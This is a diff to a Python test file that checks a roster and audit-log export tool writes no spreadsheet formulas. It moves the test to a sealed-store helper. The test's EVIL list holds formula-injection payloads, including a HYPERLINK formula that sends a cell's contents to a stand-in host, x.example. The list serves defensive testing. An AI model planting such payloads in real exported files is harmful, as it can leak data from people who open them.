@@ -13,8 +13,9 @@ from openpyxl import load_workbook
 from selfgov_desktop import cli
 from selfgov_desktop.documents import cells
 from selfgov_desktop.services.base import Context
-from selfgov_desktop.store.db import Store
 
+
+from conftest import open_sealed
 from roster_files import HEADERS, people, row_of
 
 EVIL = ['=HYPERLINK("http://x.example/?"&E2,"点击")', "+1+2", "-3+4", "@SUM(1)", "\t=1", "\r=2"]
@@ -68,7 +69,7 @@ def test_every_export_path_writes_no_formula(tmp_path: Path) -> None:
     d = ["--data-dir", str(data)]
     assert cli.main([*d, "import-roster", str(src), "--rejects", str(out / "rejects.xlsx")]) == 0
     # a topic title typed by a 委员
-    store = Store(data / "selfgov.db")
+    store = open_sealed(data)  # the store the CLI created, sealed
     try:
         from selfgov_desktop.services import topics
 
@@ -85,7 +86,7 @@ def test_every_export_path_writes_no_formula(tmp_path: Path) -> None:
     assert cli.main([*d, "export-roster", str(out / "roster.csv")]) == 0
 
     # the audit export (the window's 导出 on 审计日志): the service rows through the writer
-    store = Store(data / "selfgov.db")
+    store = open_sealed(data)  # the store the CLI created, sealed
     try:
         from selfgov_desktop.documents.audit_export import write_audit_xlsx
         from selfgov_desktop.services import audit
